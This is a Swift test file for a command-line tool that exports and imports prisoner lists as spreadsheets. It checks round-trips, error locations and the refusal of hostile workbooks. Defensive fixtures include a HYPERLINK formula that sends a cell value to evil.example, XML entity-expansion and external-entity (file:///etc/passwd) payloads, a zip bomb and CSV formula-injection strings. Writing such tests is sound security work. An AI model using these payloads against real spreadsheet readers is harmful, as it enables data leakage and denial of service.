import Foundation
import ListGenerator
import Testing
@testable import BriefKit

/// `brief export` and `brief import` (docs/spreadsheets.md): a list written as a workbook or CSV files and read back
/// is the same list, for every list of the test corpus; problems point at their cell; hostile workbooks are refused
/// within the reading limits.
@Suite struct SpreadsheetTests {
    static let validator = Validator(schemas: sharedSchemas, options: ValidationOptions(jobs: 1))

    /// A list with every element and attribute of the format, a marking on each portion, and text that needs
    /// escaping in XML, in SpreadsheetML and in CSV.
    static let everything = """
    <?xml version="1.0" encoding="UTF-8"?>
    <prisonerList xmlns="urn:oversight:prisoner-list:1" id="all-of-it" revision="4" asOf="2020-06-30" marking="public">
      <title>Every element, "quoted" &amp; escaped</title>
      <submitter contact="desk@example.org">Office, of tests</submitter>
      <agreement announced="2019-12-01" committed="3" coverage="partial" marking="committee">
        <party>State A</party><party>State B</party><party>Mediator</party>
        <summary>A summary with _x0041_ in it, and a =formula-looking start</summary>
      </agreement>
      <sources>
        <source id="gov" kind="government" published="2020-01-02" href="https://example.org/a?b=1&amp;c=2" marking="public">Officials</source>
        <source id="ngo" kind="ngo">An NGO, with a comma</source>
        <source id="fam" kind="family" marking="restricted">Relatives</source>
      </sources>
      <counts>
        <count source="gov" date="2020-01-02" of="released">3</count>
        <count source="ngo" date="2020-02-02" of="detained" marking="committee">9223372036854775807</count>
      </counts>
      <prisoner id="A-1" list="agreed" marking="committee">
        <name marking="restricted">Ána Łukasz "Nickname"</name>
        <alias>Ana L.</alias>
        <alias marking="restricted">=SUM(A1:A2)</alias>
        <gender>female</gender>
        <born>1970</born>
        <province>North, East</province>
        <affiliation>Party of Tests</affiliation>
        <affiliation>Union</affiliation>
        <detention arrested="2015-03-01" facility="Prison &lt;1&gt;" sentence="P4Y6M">
          <charge>Charge one</charge><charge>Charge two</charge>
        </detention>
        <status value="detained" date="2016-01-01" source="ngo"/>
        <status value="released" date="2020-01-02" source="gov" marking="restricted">Note with
    a line break</status>
        <condition kind="travel-ban" since="2020-01-02" until="2021-01-02" source="gov">Cannot leave</condition>
        <condition kind="citizenship-revoked" source="fam" marking="restricted">Lost it</condition>
        <warning kind="rearrest" date="2020-03-01" issuer="Police" source="ngo">Told to stop</warning>
        <warning kind="other" source="fam">Vague</warning>
        <note marking="restricted">Held by staff</note>
        <note>Public note</note>
      </prisoner>
      <prisoner id="A-2" list="requested">
        <name>Bo</name>
        <detention/>
        <status value="unknown" date="2020-01-01" source="ngo"/>
      </prisoner>
      <prisoner id="A.3_x" list="other">
        <name>  Carl   Spaces  </name>
        <born>1901</born>
        <status value="deceased" date="2019-01-01" source="fam"/>
      </prisoner>
    </prisonerList>
    """

    /// Every valid list the repository has: the examples, their history, the test fixtures, generated lists.
    static func corpus() throws -> [(name: String, list: PrisonerList)] {
        var found: [(String, PrisonerList)] = []
        var files: [String] = []
        for root in ["briefs", "Tests/BriefKitTests/Fixtures"] {
            let base = Repository.root.appendingPathComponent(root)
            guard let walker = FileManager.default.enumerator(atPath: base.path) else { continue }
            for case let path as String in walker where path.hasSuffix(".xml") { files.append(base.appendingPathComponent(path).path) }
        }
        for file in files.sorted() {
            let bytes = try [UInt8](Data(contentsOf: URL(fileURLWithPath: file)))
            if let list = validator.check(bytes: bytes, path: file).list { found.append((file, list)) }
        }
        if let list = check(everything).list { found.append(("everything", list)) }
        for options in [ListGeneratorOptions(count: 400, seed: 42), ListGeneratorOptions(count: 300, seed: 9, drift: 37.5)] {
            if let list = check(bytes: generateListBytes(options)).list { found.append(("generated \(options.count)/\(options.seed)", list)) }
        }
        return found
    }

    static func textconv(_ list: PrisonerList) -> String { ListTextConverter.render(list) }

    @Test func theListWithEverythingIsValid() {
        let checked = check(Self.everything)
        #expect(!checked.diagnostics.contains { $0.severity == .error }, "\(checked.diagnostics)")
    }

    @Test func xmlWriterRoundTripsEveryList() throws {
        let corpus = try Self.corpus()
        #expect(corpus.count >= 8, "the corpus holds the examples, fixtures and generated lists")
        for (name, list) in corpus {
            let again = Self.validator.check(bytes: ListXMLWriter.render(list).bytes, path: name).list
            #expect(again.map(Self.textconv) == Self.textconv(list), "\(name)")
        }
    }

    @Test func workbookRoundTripsEveryList() throws {
        for (name, list) in try Self.corpus() {
            let bytes = try ListExport.workbook(list)
            let result: ListImport.Result
            switch XLSXReader().read(bytes: bytes, path: "cases.xlsx") {
            case .failure(let failure): Issue.record("\(name): \(failure.problems)"); continue
            case .success(let sheets): result = ListImport.run(sheets: sheets, source: "cases.xlsx", validator: Self.validator)
            }
            #expect(!result.report.hasErrors, "\(name): \(result.report.files.flatMap(\.diagnostics).prefix(3))")
            #expect(result.list.map(Self.textconv) == Self.textconv(list), "\(name)")
        }
    }

    @Test func csvFolderRoundTripsEveryList() throws {
        let folder = try temporaryFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        for (index, (name, list)) in try Self.corpus().enumerated() {
            let sub = folder.appendingPathComponent("\(index)")
            try FileManager.default.createDirectory(at: sub, withIntermediateDirectories: true)
            for file in ListExport.csvFiles(list) { try file.text.write(to: sub.appendingPathComponent(file.name), atomically: true, encoding: .utf8) }
            let result = ListImport.run(path: sub.path, validator: Self.validator)
            #expect(!result.report.hasErrors, "\(name): \(result.report.files.flatMap(\.diagnostics).prefix(3))")
            #expect(result.list.map(Self.textconv) == Self.textconv(list), "\(name)")
        }
    }

    @Test func workbookIsDeterministic() throws {
        let list = try #require(check(Self.everything).list)
        #expect(try ListExport.workbook(list) == ListExport.workbook(list))
    }

    /// A workbook saved by LibreOffice (shared strings, its own styles, docProps) reads back as the example list.
    @Test func workbookSavedByLibreOfficeReads() throws {
        let path = Repository.fixture("spreadsheets/cuba-53-libreoffice.xlsx")
        let result = ListImport.run(path: path, validator: Self.validator)
        let example = try #require(check(bytes: [UInt8](Data(contentsOf: Repository.root.appendingPathComponent("briefs/cuba-53/list.xml")))).list)
        #expect(result.list.map(Self.textconv) == Self.textconv(example))
    }

    /// Dates LibreOffice stored as serial numbers with a date format are read as those dates.
    @Test func serialDatesAreRead() throws {
        let sheets = try XLSXReader().read(path: Repository.fixture("spreadsheets/statuses-dates-libreoffice.xlsx")).get()
        let rows = try #require(sheets.first?.rows)
        #expect(rows[1].cells[2] == .date(try #require(Day(iso: "2015-01-01"))))
        #expect(rows[0].cells[0] == .text("person"))
    }

    @Test func serialNumbersGiveCalendarDays() {
        let handler = SheetHandler(sheet: "S", file: "f", strings: [], dateStyles: [], date1904: false, limits: .default)
        #expect(handler.serialDate("1") == Day(iso: "1900-01-01"))
        #expect(handler.serialDate("59") == Day(iso: "1900-02-28"))
        #expect(handler.serialDate("60") == nil, "1900-02-29 does not exist")
        #expect(handler.serialDate("61") == Day(iso: "1900-03-01"))
        #expect(handler.serialDate("42017") == Day(iso: "2015-01-13"))
        #expect(handler.serialDate("42016.5") == nil)
        let handler1904 = SheetHandler(sheet: "S", file: "f", strings: [], dateStyles: [], date1904: true, limits: .default)
        #expect(handler1904.serialDate("1") == Day(iso: "1904-01-02"))
    }

    @Test func dateFormatsAreRecognised() {
        #expect(StylesHandler.isDateFormat("yyyy\\-mm\\-dd"))
        #expect(StylesHandler.isDateFormat("d/m/yy"))
        #expect(!StylesHandler.isDateFormat("General"))
        #expect(!StylesHandler.isDateFormat("0.00"))
        #expect(!StylesHandler.isDateFormat("\"days\" 0"))
        #expect(!StylesHandler.isDateFormat("[Red]0"))
    }

    @Test func spreadsheetEscapesRoundTrip() {
        for text in ["_x0041_", "a_x005F_b", "plain", "tab\there", "\u{1}"] {
            #expect(SheetHandler.unescaped(XLSXWriter.escapedText(text).replacingOccurrences(of: "&amp;", with: "&")) == text)
        }
        #expect(SheetHandler.unescaped("_x0041_") == "A")
    }

    // MARK: - Problems at their cell

    /// The example's sheets with one cell changed.
    static func exampleSheets(changing sheet: String, row: Int, column: Int, to value: CellValue?) throws -> [ReadSheet] {
        let list = try #require(check(Self.everything).list)
        var tables = ListSheets.tables(of: list)
        let index = try #require(tables.firstIndex { $0.name == sheet })
        tables[index].rows[row - 2][column - 1] = value
        return try XLSXReader().read(bytes: XLSXWriter.workbook(tables), path: "cases.xlsx").get()
    }

    @Test func aBadDateIsReportedAtItsCell() throws {
        let sheets = try Self.exampleSheets(changing: "Statuses", row: 3, column: 3, to: .text("12/01/2020"))
        let result = ListImport.run(sheets: sheets, source: "cases.xlsx", validator: Self.validator)
        let diagnostic = try #require(result.report.files.first?.diagnostics.first)
        #expect(diagnostic.rule == .spreadsheet)
        #expect(diagnostic.file == "cases.xlsx" && diagnostic.line == 3 && diagnostic.column == 3)
        #expect(diagnostic.message.hasPrefix("Statuses!C3: '12/01/2020' is not a date"))
        #expect(result.xml == nil)
    }

    @Test func anUnknownPersonAndMarkingAreReported() throws {
        var sheets = try Self.exampleSheets(changing: "Statuses", row: 2, column: 1, to: .text("NOBODY"))
        var result = ListImport.run(sheets: sheets, source: "cases.xlsx", validator: Self.validator)
        #expect(result.report.files[0].diagnostics.contains { $0.message.hasPrefix("Statuses!A2: no People row has the id 'NOBODY'") })
        sheets = try Self.exampleSheets(changing: "People", row: 2, column: 3, to: .text("secret"))
        result = ListImport.run(sheets: sheets, source: "cases.xlsx", validator: Self.validator)
        #expect(result.report.files[0].diagnostics.contains { $0.message.hasPrefix("People!C2: 'secret' is not a marking") })
    }

    /// A problem the validator finds on the list written (a source no one lists) is traced back to its cell.
    @Test func validatorFindingsPointAtTheirCell() throws {
        let sheets = try Self.exampleSheets(changing: "Statuses", row: 2, column: 4, to: .text("nosuch"))
        let result = ListImport.run(sheets: sheets, source: "cases.xlsx", validator: Self.validator)
        let errors = result.report.files[0].diagnostics.filter { $0.severity == .error }
        #expect(!errors.isEmpty)
        #expect(errors.allSatisfy { $0.file == "cases.xlsx" && $0.message.hasPrefix("Statuses!") }, "\(errors)")
        #expect(errors.contains { $0.line == 2 })
    }

    @Test func diagnosticsRenderInEveryFormat() throws {
        let sheets = try Self.exampleSheets(changing: "Statuses", row: 3, column: 3, to: .text("soon"))
        let report = ListImport.run(sheets: sheets, source: "cases.xlsx", validator: Self.validator).report
        #expect(HumanDiagnosticRenderer(color: false).render(report).contains("cases.xlsx:3:3: error: Statuses!C3: 'soon' is not a date [spreadsheet]"))
        #expect(try JSONDiagnosticRenderer().render(report).contains("\"spreadsheet\""))
        #expect(GitHubAnnotationRenderer().render(report).contains("file=cases.xlsx,line=3,col=3"))
        #expect(try SARIFRenderer().render(report).contains("spreadsheet"))
        #expect(JUnitRenderer(strict: false).render(report).contains("Statuses!C3"))
    }

    // MARK: - Hostile workbooks

    /// A workbook of one sheet named `Statuses` whose `sheetData` is `data`, with optional extra parts.
    static func workbook(sheetData: String, sheetExtra: String = "", parts: [(String, [UInt8])] = [], sharedStrings: String? = nil) throws -> [UInt8] {
        let main = XLSXWriter.main, rel = XLSXWriter.relationships
        var all: [(name: String, bytes: [UInt8])] = [
            ("[Content_Types].xml", Array("<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>".utf8)),
            ("xl/workbook.xml", Array("<workbook xmlns=\"\(main)\" xmlns:r=\"\(rel)\"><sheets><sheet name=\"Statuses\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>".utf8)),
            ("xl/_rels/workbook.xml.rels", Array("<Relationships xmlns=\"\(XLSXWriter.packageRelationships)\"><Relationship Id=\"rId1\" Type=\"\(rel)/worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>".utf8)),
            ("xl/worksheets/sheet1.xml", Array("<worksheet xmlns=\"\(main)\"><sheetData>\(sheetData)</sheetData>\(sheetExtra)</worksheet>".utf8)),
        ]
        if let sharedStrings { all.append(("xl/sharedStrings.xml", Array(sharedStrings.utf8))) }
        all += parts.map { ($0.0, $0.1) }
        return try XLSXWriter.zip(all)
    }

    static func problems(_ bytes: [UInt8], limits: SpreadsheetLimits = .default) -> [IntakeProblem] {
        switch XLSXReader(limits: limits).read(bytes: bytes, path: "cases.xlsx") {
        case .success: []
        case .failure(let failure): failure.problems
        }
    }

    @Test func formulaCellsAreRefusedAtTheirCell() throws {
        let bytes = try Self.workbook(sheetData: """
            <row r="1"><c r="A1" t="inlineStr"><is><t>person</t></is></c></row>
            <row r="14"><c r="C14"><f>HYPERLINK("http://evil.example/"&amp;A1)</f><v>1</v></c></row>
            """)
        let problem = try #require(Self.problems(bytes).first)
        #expect(problem.location.description == "cases.xlsx:Statuses!C14")
        #expect(problem.message.contains("formula"))
        #expect(problem.diagnostic.message.hasPrefix("Statuses!C14: "))
    }

    @Test func sharedStringsAndRichTextAreRead() throws {
        let bytes = try Self.workbook(sheetData: """
            <row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c><c r="C1" t="b"><v>1</v></c></row>
            <row r="3"><c r="A3"><v>1962</v></c></row>
            """, sharedStrings: """
            <sst xmlns="\(XLSXWriter.main)"><si><t>plain</t></si><si><r><t>ri</t></r><r><t>ch</t></r><rPh><t>ignored</t></rPh></si></sst>
            """)
        let sheets = try XLSXReader().read(bytes: bytes, path: "cases.xlsx").get()
        #expect(sheets[0].rows.map(\.number) == [1, 3], "the empty row 2 is skipped")
        #expect(sheets[0].rows[0].cells == [.text("plain"), .text("rich"), .boolean(true)])
        #expect(sheets[0].rows[1].cells == [.number("1962")])
    }

    @Test func mergedCellsAreRefused() throws {
        let bytes = try Self.workbook(sheetData: "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>x</t></is></c></row>",
                                      sheetExtra: "<mergeCells count=\"1\"><mergeCell ref=\"B4:C5\"/></mergeCells>")
        let problem = try #require(Self.problems(bytes).first)
        #expect(problem.location.reference == "Statuses!B4")
        #expect(problem.message.contains("merged"))
    }

    @Test func theLastRowOfASpreadsheetIsPastTheLimit() throws {
        let bytes = try Self.workbook(sheetData: "<row r=\"1\"><c r=\"A1\"><v>1</v></c></row><row r=\"1048576\"><c r=\"A1048576\"><v>1</v></c></row>")
        let problem = try #require(Self.problems(bytes).first)
        #expect(problem.message.contains("past the limit of 200000 rows"))
        #expect(problem.location.row == 1_048_576)
    }

    @Test func aMillionRowsAreRefusedAtTheLimit() throws {
        // A million small rows (about 20 MB of XML, deflated to little): the reader stops at the limit.
        var data = ""
        data.reserveCapacity(1_048_576 * 20)
        for row in 1...1_048_576 { data += "<row r=\"\(row)\"><c><v>1</v></c></row>" }
        let bytes = try Self.workbook(sheetData: data)
        let start = ContinuousClock.now
        let problem = try #require(Self.problems(bytes).first)
        #expect(problem.message.contains("rows") && problem.location.row == 200_001, "\(problem)")
        #expect(ContinuousClock.now - start < .seconds(60))
    }

    @Test func sixteenThousandColumnsAreRefused() throws {
        let bytes = try Self.workbook(sheetData: "<row r=\"1\"><c r=\"A1\"><v>1</v></c><c r=\"XFD1\"><v>1</v></c></row>")
        let problem = try #require(Self.problems(bytes).first)
        #expect(problem.message.contains("column XFD") && problem.location.column == 16_384)
        // And 16,384 cells one after another without references.
        let wide = try Self.workbook(sheetData: "<row r=\"1\">" + String(repeating: "<c><v>1</v></c>", count: 16_384) + "</row>")
        #expect(Self.problems(wide).first?.message.contains("past the limit of 64 columns") == true)
    }

    @Test func aZipBombIsRefusedBeforeItIsDecompressed() throws {
        // 8 MiB of zeros deflate to a few kilobytes: a ratio a spreadsheet never has.
        let zeros = [UInt8](repeating: UInt8(ascii: " "), count: 8 << 20)
        let bytes = try Self.workbook(sheetData: "", parts: [("xl/sharedStrings.xml", zeros)])
        #expect(bytes.count < 1 << 20)
        let problem = try #require(Self.problems(bytes).first)
        #expect(problem.message.contains("zip bomb"))
        // A part over the size limit is refused on its declared size.
        var small = SpreadsheetLimits()
        small.maxPartBytes = 1 << 20
        small.maxCompressionRatio = 100_000
        #expect(Self.problems(bytes, limits: small).first?.message.contains("more than the limit of 1048576") == true)
    }

    @Test func tooManyPartsAreRefused() throws {
        let parts = (0..<100).map { ("junk/\($0).xml", Array("<x/>".utf8)) }
        let bytes = try Self.workbook(sheetData: "", parts: parts)
        #expect(Self.problems(bytes).first?.message.contains("more than 64 parts") == true)
    }

    @Test func xmlAttacksInsidePartsAreRefused() throws {
        let laughs = """
            <?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>
            <sst xmlns="\(XLSXWriter.main)"><si><t>&c;</t></si></sst>
            """
        let external = """
            <?xml version="1.0"?><!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst xmlns="\(XLSXWriter.main)"><si><t>&x;</t></si></sst>
            """
        for attack in [laughs, external] {
            let bytes = try Self.workbook(sheetData: "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c></row>", sharedStrings: attack)
            let problem = try #require(Self.problems(bytes).first)
            #expect(problem.message.contains("xl/sharedStrings.xml is refused") && problem.message.contains("DOCTYPE"), "\(problem)")
        }
        // In a sheet too, and a document nested deeper than the limit.
        let deep = try Self.workbook(sheetData: String(repeating: "<x>", count: 100) + String(repeating: "</x>", count: 100))
        #expect(Self.problems(deep).first?.message.contains("xl/worksheets/sheet1.xml is refused") == true)
    }

    /// Damaged workbooks (bytes changed at random, deterministically) are refused or read, never a crash or a hang.
    @Test func damagedWorkbooksAreRefusedNotFatal() throws {
        let list = try #require(check(Self.everything).list)
        let original = try ListExport.workbook(list)
        var state: UInt64 = 0x9E37_79B9_7F4A_7C15
        func next() -> UInt64 {
            state ^= state << 13; state ^= state >> 7; state ^= state << 17
            return state
        }
        var refused = 0
        for _ in 0..<1000 {
            var bytes = original
            // Half of the changes in the central directory and local headers' region at the end, where offsets are.
            let tail = next() % 2 == 0
            for _ in 0..<(1 + Int(next() % 4)) {
                let span = tail ? min(bytes.count, 1200) : bytes.count
                bytes[bytes.count - span + Int(next() % UInt64(span))] = UInt8(truncatingIfNeeded: next())
            }
            switch XLSXReader().read(bytes: bytes, path: "damaged.xlsx") {
            case .failure(let failure): refused += 1; #expect(!failure.problems.isEmpty)
            case .success(let sheets): _ = ListImport.run(sheets: sheets, source: "damaged.xlsx", validator: Self.validator)
            }
        }
        #expect(refused > 0)
    }

    /// CSV text of quotes, commas, line breaks and letters at random is read or refused, never a crash.
    @Test func arbitraryCSVIsReadOrRefused() throws {
        let folder = try temporaryFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let alphabet = Array("a,\"\n\r ;=x\u{00E9}")
        var state: UInt64 = 12345
        var read = 0
        for index in 0..<300 {
            var text = ""
            for _ in 0..<(Int(state % 200)) {
                state = state &* 6364136223846793005 &+ 1442695040888963407
                text.append(alphabet[Int(state >> 33) % alphabet.count])
            }
            let file = folder.appendingPathComponent("\(index).csv")
            try text.write(to: file, atomically: true, encoding: .utf8)
            if case .success(let sheet) = CSVFolder.read(path: file.path, sheet: "People") {
                read += 1
                #expect(sheet.rows.allSatisfy { $0.cells.contains { $0 != nil } }, "empty rows are skipped")
            }
        }
        #expect(read > 0)
    }

    @Test func notAWorkbookIsRefused() {
        #expect(Self.problems(Array("id,name\n".utf8)).first?.message.contains("not an .xlsx workbook") == true)
        #expect(Self.problems([0x50, 0x4B, 0x03, 0x04, 0, 0]).first?.message.contains("zip") == true)
    }

    @Test func csvFieldsNeverStartAFormulaAndComeBack() {
        for text in ["=SUM(A1:A2)", "+1", "-note", "@x", "'t Hart", "'=already", "''", "plain", "'"] {
            let written = CSVFolder.neutralised(text)
            #expect(!CSVFolder.formulaStarts.contains(written.unicodeScalars.first ?? "a"), "\(text)")
            #expect(CSVFolder.restored(written) == text, "\(text)")
        }
        #expect(CSVFolder.restored("'t Hart") == "'t Hart", "a hand-written name keeps its apostrophe")
    }

    @Test func csvFilesAreBoundedAndQuoted() throws {
        let folder = try temporaryFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let sheet = SheetTable(name: "Sources", header: ["id", "description"], rows: [[.text("a"), .text("with, comma \"and\" quote\nand line")]])
        let file = folder.appendingPathComponent("sources.csv")
        try CSVFolder.text(sheet).write(to: file, atomically: true, encoding: .utf8)
        let read = try CSVFolder.read(path: file.path, sheet: "Sources").get()
        #expect(read.rows[1].cells == [.text("a"), .text("with, comma \"and\" quote\nand line")])
        let wide = folder.appendingPathComponent("wide.csv")
        try (String(repeating: "x,", count: 16_383) + "x\n").write(to: wide, atomically: true, encoding: .utf8)
        switch CSVFolder.read(path: wide.path, sheet: "People") {
        case .success: Issue.record("16,384 columns were read")
        case .failure(let failure): #expect(failure.problems.first?.message.contains("limit of 64 columns") == true)
        }
    }

    // MARK: - The commands

    @Test func exportAndImportCommandsRoundTrip() throws {
        let folder = try temporaryFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let example = Repository.root.appendingPathComponent("briefs/cuba-53").path
        let workbook = folder.appendingPathComponent("cases.xlsx").path
        #expect(try runBrief(["export", example, "--to", workbook]).status == 0)
        let imported = folder.appendingPathComponent("list.xml").path
        let run = try runBrief(["import", workbook, "--out", imported])
        #expect(run.status == 0, "\(run.stderr)")
        let before = try runBrief(["textconv", example + "/list.xml"]).stdout
        #expect(try runBrief(["textconv", imported]).stdout == before)
        // CSV, the same.
        let csv = folder.appendingPathComponent("sheets").path
        #expect(try runBrief(["export", example, "--to", csv]).status == 0)
        let fromCSV = folder.appendingPathComponent("from-csv.xml").path
        #expect(try runBrief(["import", csv, "--out", fromCSV]).status == 0)
        #expect(try runBrief(["textconv", fromCSV]).stdout == before)
        // Never over an input.
        #expect(try runBrief(["import", workbook, "--out", workbook]).status == 2)
        #expect(try runBrief(["export", imported, "--to", imported + ".xlsx"]).status == 0)
    }

    @Test func importErrorsUseValidateFormats() throws {
        let folder = try temporaryFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let workbook = folder.appendingPathComponent("cases.xlsx")
        let bytes = try Self.workbook(sheetData: "<row r=\"1\"><c r=\"A1\"><f>1+1</f></c></row>")
        try Data(bytes).write(to: workbook)
        let out = folder.appendingPathComponent("list.xml").path
        let human = try runBrief(["import", workbook.path, "--out", out])
        #expect(human.status == 1)
        #expect(human.stdout.contains("cases.xlsx:1:1: error: Statuses!A1: the cell holds a formula"), "\(human.stdout)")
        #expect(!FileManager.default.fileExists(atPath: out))
        let json = try runBrief(["import", workbook.path, "--out", out, "--format", "json"])
        #expect(json.status == 1 && json.stdout.contains("\"rule\" : \"spreadsheet\"") || json.stdout.contains("\"rule\": \"spreadsheet\""), "\(json.stdout)")
    }
}
